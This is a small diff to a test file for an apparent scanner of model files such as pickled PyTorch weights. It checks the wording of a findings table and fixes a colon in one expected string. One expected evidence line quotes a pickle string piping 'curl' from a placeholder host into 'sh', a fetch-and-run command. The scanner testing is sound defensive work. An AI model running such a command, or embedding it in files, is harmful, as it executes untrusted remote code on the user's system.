@@ -46,7 +46,7 @@ def test_table_shows_the_location_and_evidence_and_fix_of_findings(failing: Audi
         failing.findings[0].fingerprint,
         "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
         "Do not load the file. Ask the publisher",
-        "Accepted by the policy: default: images carry no weights.",
+        "Accepted by the policy default: images carry no weights.",
         "pytorch_model.bin (entry secret.bin) The content is encrypted",
         "1 altered: DIFFERENT from the digest of the source",
         "otherscan gave no opinion, so it does not confirm this report",
